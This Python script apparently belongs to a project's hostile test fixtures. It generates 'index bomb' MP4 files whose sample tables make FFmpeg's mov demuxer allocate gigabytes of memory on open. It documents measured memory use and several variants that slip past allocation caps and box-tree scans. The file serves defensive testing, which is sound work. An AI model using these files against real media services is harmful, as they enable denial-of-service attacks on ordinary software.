#!/usr/bin/env python3
"""Make the "index bomb" MP4 fixtures: tiny files whose sample tables claim tens of
millions of samples, so that FFmpeg's mov demuxer allocates (and writes) gigabytes
inside avformat_open_input() before our code gets a chance to look at the streams.

Usage:  python3 Fixtures/hostile/make-index-bomb.py [--out DIR] [--extra]

Python 3 standard library only, no inputs, byte-for-byte deterministic output.
By default the files are written next to this script:

  index_bomb.mp4        plain (non-fragmented) MP4, one H.264 track, stsz with a uniform
                        sample size and sample_count = 89,000,000, one chunk (stsc/stco)
                        holding all of them.  FFmpeg 5.1 mov_build_index() does
                        av_reallocp_array(index_entries, 89e6, 24 B) = 2.14 GB and then
                        writes every entry (RSS, not just address space).
  index_bomb_frag.mp4   fragmented MP4: moov with empty sample tables + mvex/trex, then one
                        moof whose trun says sample_count = 89,000,000 and carries no
                        per-sample fields (size/duration/flags come from tfhd defaults).
                        mov_read_trun() grows index_entries (24 B) *and* ctts_data (8 B)
                        per sample: ~2.9 GB RSS.
  index_bomb_sound.mp4  the same 16 tracks as index_bomb_multi, labelled sound (hdlr soun) with an stts delta
                        of 1024: still indexed per sample.
  index_bomb_udta.mp4, index_bomb_hoov.mp4, index_bomb_chunks.mp4, index_bomb_cmov.mp4
                        the variants a second review found (see build_traks below): the stsz inside udta, the moov
                        renamed hoov, per-chunk sound indexing with 2^31 samples a chunk, a zlib-compressed moov.
  index_bomb_multi.mp4  16 tracks x 5,500,000 samples.  Each track's index is 132 MB, which
                        fits under av_max_alloc(128 MiB) and av_max_alloc(256 MiB), so a
                        per-allocation cap does not stop it: ~2.1 GB in total.

--extra also writes variants used to measure other per-sample allocations (not committed):
  extra_elst.mp4  index_bomb + an edit list (mov_fix_index() copies the whole index)
  extra_ctts.mp4  index_bomb + a 1-entry ctts (mov_build_index() expands ctts to 8 B/sample)
  extra_elst_ctts.mp4  both
  extra_small_elst_ctts.mp4  the same at 11,000,000 samples (index just under 256 MiB)
  extra_small_frag.mp4  the fragmented bomb at 8,000,000 samples (index just under 256 MiB)
  extra_multi4_small_elst_ctts.mp4  4 tracks like extra_small_elst_ctts (~0.55 GB each even
                        under av_max_alloc(256 MiB): the cap is per allocation, not per file)

Measured with FFmpeg 5.1.9 (Debian 12), peak RSS of avformat_open_input:
  index_bomb 2.12 GB, index_bomb_frag 2.86 GB, index_bomb_multi 2.09 GB (baseline ~30 MB).
  With av_max_alloc(256 MiB) before opening: index_bomb opens with 0 index entries but
  nb_frames = 89,000,000 (30 MB); index_bomb_frag fails with AVERROR(ENOMEM);
  index_bomb_multi is unaffected (2.09 GB), also at 128 MiB.

Why the numbers: FFmpeg's default av_max_alloc is INT_MAX, so the largest single index
that mov_build_index can allocate is (2^31-1)/24 = 89,478,485 entries; 89,000,000 is just
under it.  The demuxer's own sanity check (sample_count < UINT_MAX/24 = 178,956,970) does
not stop it.  Nothing in the file needs to back the claimed samples: only sample 0 exists
(a real 64x64 H.264 IDR frame, so the file also probes and decodes as a normal video).
"""

import argparse
import os
import struct

# ---------------------------------------------------------------------------------------
# The only media payload: one 64x64 grey H.264 baseline IDR frame, made once with
#   ffmpeg -f lavfi -i color=c=gray:s=64x64:r=25 -frames:v 1 -c:v libx264 \
#          -preset ultrafast -profile:v baseline -bitexact -f h264 tiny.h264
# and split into its NAL units (the x264 "options" SEI is dropped). Embedded as hex so the
# script has no inputs.
SPS = bytes.fromhex("6742c00ada109b011000000300100000030320f1226a")
PPS = bytes.fromhex("68ce0fc8")
IDR = bytes.fromhex("6588843a26280c9c9c9d75d75d75d75d75d75e")
SAMPLE = struct.pack(">I", len(IDR)) + IDR  # avcC says 4-byte NAL length prefixes
SAMPLE_SIZE = len(SAMPLE)  # 23 bytes: the uniform size every claimed sample gets

WIDTH, HEIGHT = 64, 64
TIMESCALE = 25  # media timescale: one tick per frame at 25 fps (stts delta = 1)

BOMB_SAMPLES = 89_000_000  # just under (INT_MAX / 24): the biggest index FFmpeg will allocate
MULTI_TRACKS = 16
MULTI_SAMPLES = 5_500_000  # 5.5e6 * 24 B = 132 MB = 125.9 MiB per track, under a 128 MiB cap
SMALL_SAMPLES = 11_000_000  # 264 MB = 251.8 MiB, under a 256 MiB cap
SMALL_FRAG_SAMPLES = 8_000_000  # trun: 8e6*24*17/16 = 204 MB (av_fast_realloc adds 1/16)


# ---------------------------------------------------------------------------------------
# Box helpers
def box(kind, *payload):
    body = b"".join(payload)
    return struct.pack(">I4s", 8 + len(body), kind.encode("ascii")) + body


def full_box(kind, version, flags, *payload):
    return box(kind, struct.pack(">I", (version << 24) | flags), *payload)


MATRIX = struct.pack(">9I", 0x10000, 0, 0, 0, 0x10000, 0, 0, 0, 0x40000000)


def ftyp(major=b"isom", compat=(b"isom", b"iso2", b"avc1", b"mp41")):
    return box("ftyp", major, struct.pack(">I", 512), *compat)


def mvhd(duration, next_track_id):
    # version 1: 64-bit times. Movie timescale 1000 (ms).
    return full_box("mvhd", 1, 0,
                    struct.pack(">QQIQ", 0, 0, 1000, duration),
                    struct.pack(">IH", 0x10000, 0x100), b"\0" * 10, MATRIX, b"\0" * 24,
                    struct.pack(">I", next_track_id))


def tkhd(track_id, duration):
    # flags 3 = enabled | in movie. Width/height are 16.16 fixed point.
    return full_box("tkhd", 1, 3,
                    struct.pack(">QQIIQ", 0, 0, track_id, 0, duration),
                    b"\0" * 8, struct.pack(">hhhH", 0, 0, 0, 0), MATRIX,
                    struct.pack(">II", WIDTH << 16, HEIGHT << 16))


def mdhd(duration):
    # The media duration claims the same absurd length as stts: 89e6 frames at 25 fps
    # is ~41 days, so nothing looks inconsistent inside the file.
    return full_box("mdhd", 1, 0, struct.pack(">QQIQHH", 0, 0, TIMESCALE, duration, 0x55C4, 0))


def hdlr(kind=b"vide"):
    name = b"VideoHandler\0" if kind == b"vide" else b"SoundHandler\0"
    return full_box("hdlr", 0, 0, struct.pack(">I4s", 0, kind), b"\0" * 12, name)


def dinf():
    # dref with one self-contained 'url ' entry (flags 1): data is in this file.
    return box("dinf", full_box("dref", 0, 0, struct.pack(">I", 1), full_box("url ", 0, 1)))


def avcc():
    # AVCDecoderConfigurationRecord: version 1, profile/compat/level copied from the SPS,
    # 0xFF = 4-byte NAL lengths, 0xE1 = one SPS, then one PPS.
    return box("avcC", bytes([1, SPS[1], SPS[2], SPS[3], 0xFF, 0xE1]),
               struct.pack(">H", len(SPS)), SPS, b"\x01", struct.pack(">H", len(PPS)), PPS)


def stsd():
    entry = box("avc1", b"\0" * 6, struct.pack(">H", 1),  # reserved, data_reference_index
                b"\0" * 16, struct.pack(">HH", WIDTH, HEIGHT),
                struct.pack(">II", 0x480000, 0x480000), b"\0" * 4, struct.pack(">H", 1),
                b"\0" * 32, struct.pack(">Hh", 0x18, -1), avcc())
    return full_box("stsd", 0, 0, struct.pack(">I", 1), entry)


def stbl(n_samples, chunk_offset, ctts=False, delta=1):
    """Sample tables for one track claiming n_samples samples, all in ONE chunk.

    Every table is O(1) in size regardless of n_samples - that is the whole trick:
      stts  1 entry  (sample_count = n, delta = 1)       -> AVStream.nb_frames = n
      stsc  1 entry  (first_chunk 1, samples_per_chunk = n, sample_description 1)
      stsz  sample_size = 23 (uniform, so no per-sample size table), sample_count = n.
            mov_read_stsz() returns early for a non-zero uniform size, so no table is
            read or allocated and nothing checks n against the box size or the file size.
      stco  1 chunk at the offset of the single real sample in mdat.
      (no stss: every sample is a keyframe, which keeps mov_build_index on its simple path)
    mov_read_trak() only checks that the tables are present and that stsc does not refer
    to chunks past stco; then mov_build_index() allocates n AVIndexEntry (24 B each) in
    one av_reallocp_array() and fills them in a loop - i.e. the memory is really touched.
    Samples 1..n-1 lie past the end of the file; nobody checks that while indexing.
    """
    tables = [
        stsd(),
        full_box("stts", 0, 0, struct.pack(">III", 1, n_samples, delta)),
    ]
    if ctts:
        # One ctts run covering every sample. mov_build_index() expands ctts to one entry
        # per sample (8 B each, av_fast_realloc + memset) before building the index.
        tables.append(full_box("ctts", 0, 0, struct.pack(">III", 1, n_samples, 0)))
    tables += [
        full_box("stsc", 0, 0, struct.pack(">IIII", 1, 1, n_samples, 1)),
        full_box("stsz", 0, 0, struct.pack(">II", SAMPLE_SIZE, n_samples)),
        full_box("stco", 0, 0, struct.pack(">II", 1, chunk_offset)),
    ]
    return box("stbl", *tables)


def empty_stbl():
    # Fragmented file: the moov's tables describe no samples at all (samples come in moofs).
    return box("stbl", stsd(),
               full_box("stts", 0, 0, struct.pack(">I", 0)),
               full_box("stsc", 0, 0, struct.pack(">I", 0)),
               full_box("stsz", 0, 0, struct.pack(">II", 0, 0)),
               full_box("stco", 0, 0, struct.pack(">I", 0)))


def trak(track_id, n_samples, table, movie_duration_ms, elst=False, kind=b"vide"):
    parts = [tkhd(track_id, movie_duration_ms)]
    if elst:
        # One edit covering the whole (claimed) track from media time 0. With FFmpeg's
        # default advanced_editlist=1, mov_fix_index() builds a second index by copying
        # every entry (add_index_entry doubles its buffer) while the old one is still alive.
        parts.append(box("edts", full_box("elst", 1, 0, struct.pack(">IQqhh", 1, movie_duration_ms, 0, 1, 0))))
    parts.append(box("mdia", mdhd(n_samples), hdlr(kind),
                     box("minf", full_box("vmhd", 0, 1, b"\0" * 8), dinf(), table)))
    return box("trak", *parts)


def ms(n_samples):
    return n_samples * 1000 // TIMESCALE


# ---------------------------------------------------------------------------------------
# File builders. Layout: ftyp, moov, mdat (moov first, so the chunk offset is known once
# the moov size is; the offset field has a fixed width, so building twice is exact).
def plain_bomb(n_samples, tracks=1, elst=False, ctts=False, kind=b"vide", delta=1):
    def build(offset):
        traks = [trak(t + 1, n_samples, stbl(n_samples, offset, ctts=ctts, delta=delta), ms(n_samples), elst=elst,
                      kind=kind)
                 for t in range(tracks)]
        return ftyp() + box("moov", mvhd(ms(n_samples), tracks + 1), *traks)

    head = build(0)
    head = build(len(head) + 8)  # + mdat header: every track's one chunk = the one real sample
    return head + box("mdat", SAMPLE)


def frag_bomb(n_samples):
    """Fragmented MP4 whose single trun claims n_samples samples.

      moov/mvex/trex  track 1: default duration 1, default size 23, default flags 0 (sync)
      moof/mfhd       sequence 1
      moof/traf/tfhd  flags 0x020038: default-base-is-moof + default duration/size/flags
                      present (1, 23, 0) - so the trun needs no per-sample fields
      moof/traf/tfdt  base media decode time 0
      moof/traf/trun  flags 0x000001 (data_offset only), sample_count = n_samples.
    mov_read_trun() only rejects counts >= UINT_MAX/24, then av_fast_realloc()s
    index_entries to n*24 B and ctts_data to n*8 B (each + 1/16), memsets ctts and writes
    all n index entries in a loop that reads nothing from the file (no per-sample fields),
    so EOF never stops it. The moof is read inside avformat_open_input because it comes
    before the (last) mdat.
    """
    moov = box("moov", mvhd(0, 2),
               trak(1, 0, empty_stbl(), 0),
               box("mvex", full_box("trex", 0, 0, struct.pack(">IIIII", 1, 1, 1, SAMPLE_SIZE, 0))))

    def moof(data_offset):
        tfhd = full_box("tfhd", 0, 0x020038, struct.pack(">IIII", 1, 1, SAMPLE_SIZE, 0))
        tfdt = full_box("tfdt", 1, 0, struct.pack(">Q", 0))
        trun = full_box("trun", 0, 0x000001, struct.pack(">Ii", n_samples, data_offset))
        return box("moof", full_box("mfhd", 0, 0, struct.pack(">I", 1)), box("traf", tfhd, tfdt, trun))

    m = moof(0)
    m = moof(len(m) + 8)  # data_offset is relative to the moof start: skip moof + mdat header
    return ftyp(b"iso6", (b"iso6", b"isom", b"avc1", b"mp41")) + moov + m + box("mdat", SAMPLE)


# ---------------------------------------------------------------------------------------
# Variants found by a second review, each of which a first scan of the box tree let through: FFmpeg parses boxes by
# type wherever they stand, takes a 'hoov' whose first child is mvhd for the moov, inflates a compressed 'cmov', and
# indexes an old-audio sound track per chunk (stts one tick), where stsc may claim 2^31 samples per chunk.
def build_traks(trakf, tracks, n_samples, head_box="moov"):
    def build(offset):
        return ftyp() + box(head_box, mvhd(ms(n_samples), tracks + 1), *[trakf(t + 1, n_samples, offset)
                                                                        for t in range(tracks)])
    head = build(0)
    head = build(len(head) + 8)
    return head + box("mdat", SAMPLE)


def udta_trak(track_id, n_samples, offset):
    # stbl claims one sample; the huge stsz sits in trak/udta, which mov_read_default reads like any container.
    tables = box("stbl", stsd(), full_box("stts", 0, 0, struct.pack(">III", 1, n_samples, 1)),
                 full_box("stsc", 0, 0, struct.pack(">IIII", 1, 1, n_samples, 1)),
                 full_box("stsz", 0, 0, struct.pack(">II", SAMPLE_SIZE, 1)),
                 full_box("stco", 0, 0, struct.pack(">II", 1, offset)))
    return box("trak", tkhd(track_id, ms(n_samples)),
               box("mdia", mdhd(n_samples), hdlr(), box("minf", full_box("vmhd", 0, 1, b"\0" * 8), dinf(), tables)),
               box("udta", full_box("stsz", 0, 0, struct.pack(">II", SAMPLE_SIZE, n_samples))))


def chunk_trak(track_id, _n_samples, offset):
    # Sound, stts one entry of duration 1: indexed per chunk, ceil(samples/1024) entries (GSM: /160) per chunk, and
    # stsc claims 0x7FFFFFFF samples in each of 5 chunks: about 250 MB of index per track.
    tables = box("stbl", stsd(), full_box("stts", 0, 0, struct.pack(">III", 1, 1, 1)),
                 full_box("stsc", 0, 0, struct.pack(">IIII", 1, 1, 0x7FFFFFFF, 1)),
                 full_box("stsz", 0, 0, struct.pack(">II", 1, 1)),
                 full_box("stco", 0, 0, struct.pack(">IIIIII", 5, offset, offset, offset, offset, offset)))
    return box("trak", tkhd(track_id, 1000),
               box("mdia", mdhd(1), hdlr(b"soun"), box("minf", full_box("vmhd", 0, 1, b"\0" * 8), dinf(), tables)))


def cmov_bomb(n_samples, tracks):
    import zlib

    def build(offset):
        inner = box("moov", mvhd(ms(n_samples), tracks + 1),
                    *[trak(t + 1, n_samples, stbl(n_samples, offset), ms(n_samples)) for t in range(tracks)])
        packed = zlib.compress(inner, 9)
        return ftyp() + box("moov", box("cmov", box("dcom", b"zlib"),
                                        box("cmvd", struct.pack(">I", len(inner)), packed)))
    head = build(0)
    head = build(len(head) + 8)
    return head + box("mdat", SAMPLE)


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--out", default=os.path.dirname(os.path.abspath(__file__)))
    ap.add_argument("--extra", action="store_true", help="also write the extra_*.mp4 measurement variants")
    args = ap.parse_args()

    files = {
        "index_bomb.mp4": plain_bomb(BOMB_SAMPLES),
        "index_bomb_frag.mp4": frag_bomb(BOMB_SAMPLES),
        "index_bomb_multi.mp4": plain_bomb(MULTI_SAMPLES, tracks=MULTI_TRACKS),
        # Sound tracks of a uniform sample size: FFmpeg indexes those per chunk only when stts is one entry of
        # duration 1 (old uncompressed audio); with a duration of 1024 it indexes every claimed sample (found in
        # review: a scan that skipped every uniform-size sound track let this through, 2.1 GB).
        "index_bomb_sound.mp4": plain_bomb(MULTI_SAMPLES, tracks=MULTI_TRACKS, kind=b"soun", delta=1024),
        "index_bomb_udta.mp4": build_traks(udta_trak, MULTI_TRACKS, MULTI_SAMPLES),
        "index_bomb_hoov.mp4": plain_bomb(MULTI_SAMPLES, tracks=MULTI_TRACKS).replace(b"moov", b"hoov", 1),
        "index_bomb_chunks.mp4": build_traks(chunk_trak, MULTI_TRACKS, 1),
        "index_bomb_cmov.mp4": cmov_bomb(MULTI_SAMPLES, MULTI_TRACKS),
    }
    if args.extra:
        files.update({
            "extra_elst.mp4": plain_bomb(BOMB_SAMPLES, elst=True),
            "extra_ctts.mp4": plain_bomb(BOMB_SAMPLES, ctts=True),
            "extra_elst_ctts.mp4": plain_bomb(BOMB_SAMPLES, elst=True, ctts=True),
            "extra_small_elst_ctts.mp4": plain_bomb(SMALL_SAMPLES, elst=True, ctts=True),
            "extra_small_frag.mp4": frag_bomb(SMALL_FRAG_SAMPLES),
            "extra_multi4_small_elst_ctts.mp4": plain_bomb(SMALL_SAMPLES, tracks=4, elst=True, ctts=True),
        })
    os.makedirs(args.out, exist_ok=True)
    for name, data in files.items():
        with open(os.path.join(args.out, name), "wb") as f:
            f.write(data)
        print(f"{name}: {len(data)} bytes")


if __name__ == "__main__":
    main()
